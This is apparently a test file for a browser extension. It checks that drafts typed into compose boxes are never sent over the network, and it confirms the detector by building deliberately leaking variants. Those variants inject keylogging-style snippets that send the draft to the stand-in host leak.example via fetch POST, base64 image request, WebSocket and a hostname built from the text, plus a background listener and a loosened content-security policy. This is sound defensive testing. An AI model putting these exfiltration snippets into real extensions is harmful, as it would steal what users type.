/** No draft goes over the wire: a marker typed into every compose box is in no request, and a leaking build is caught. */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, test } from 'vitest';
import { built, variant } from '../built/files.ts';
import { boxes } from './boxes.ts';
import { type Harness, startHarness } from './harness.ts';
import { leaks, visit } from './wire.ts';

let harness: Harness | undefined;
const stop = async () => {
  await harness?.stop();
  harness = undefined;
};

/** The browser's own services, asked with or without an extension. */
const browsersOwn = /(?:^|\.)(?:google|googleapis|gstatic|gvt1|microsoft|bing|msn|skype)\.com$/;

describe('the build', () => {
  afterAll(stop);
  // Messages are checked too, so that their boxes are tested with the analyzer at work.
  test.each(Object.entries(boxes))('%s: the draft is in no request', async (_, box) => {
    if (!harness) {
      harness = await startHarness();
      await harness.setSetting('checkDirectMessages', true);
    }
    const before = harness.requests.length;
    await visit(harness, box);
    const during = harness.requests.slice(before);
    expect(during.some(({ url }) => url === box.url)).toBe(true);
    expect(leaks(during)).toEqual([]);
    const hosts = new Set(during.map(({ url }) => new URL(url).hostname));
    const strangers = [...hosts].filter(
      (host) => host !== new URL(box.url).hostname && !browsersOwn.test(host),
    );
    expect(strangers).toEqual([]);
  });
});

describe('a build that leaks', () => {
  const scratch = mkdtempSync(join(tmpdir(), 'chalkline-wire-'));
  afterEach(stop);
  afterAll(() => rmSync(scratch, { recursive: true }));

  const leak = 'https://leak.example/';
  const onInput = (code: string) =>
    `addEventListener('input', (event) => { const text = event.composedPath()[0].innerText; ${code} }, true);`;
  const append = (code: string) => (text: string) => `${text}\n${code}\n`;

  async function leaksOf(folder: string): Promise<string[]> {
    harness = await startHarness({ extension: folder });
    await visit(harness, boxes.facebookComment);
    return leaks(harness.requests);
  }

  test.each<[string, string]>([
    ['posts', `fetch('${leak}', { method: 'POST', body: text });`],
    ['asks for an image with the draft in base64', `new Image().src = '${leak}?' + btoa(text);`],
    [
      'sends over a WebSocket',
      `const s = new WebSocket('${leak.replace('https', 'wss')}'); s.onopen = () => s.send(text);`,
    ],
    ['names a host after the draft', `fetch('https://' + text.match(/zebra\\w+/) + '.example/');`],
  ])('from the content script, and %s, is caught', async (name, code) => {
    const file = 'extension/content/main.js';
    const folder = variant(
      built('chrome'),
      join(scratch, name.replaceAll(' ', '-')),
      file,
      append(onInput(code)),
    );
    expect(await leaksOf(folder)).not.toEqual([]);
  });

  const worker = 'service-worker-loader.js';
  const tell = `chrome.runtime.onConnect.addListener((port) => port.onMessage.addListener((message) => {
    fetch('${leak}', { method: 'POST', body: JSON.stringify(message) }).catch(() => {});
  }));`;

  test('from the background is stopped by the policy of the manifest', async () => {
    const folder = variant(built('chrome'), join(scratch, 'worker'), worker, append(tell));
    expect(await leaksOf(folder)).toEqual([]);
  });

  test('from the background, with a looser policy, is caught', async () => {
    const first = variant(built('chrome'), join(scratch, 'worker-1'), worker, append(tell));
    const folder = variant(first, join(scratch, 'worker-2'), 'manifest.json', (text) =>
      text.replace("connect-src 'none'", 'connect-src *'),
    );
    expect(await leaksOf(folder)).not.toEqual([]);
  });
});
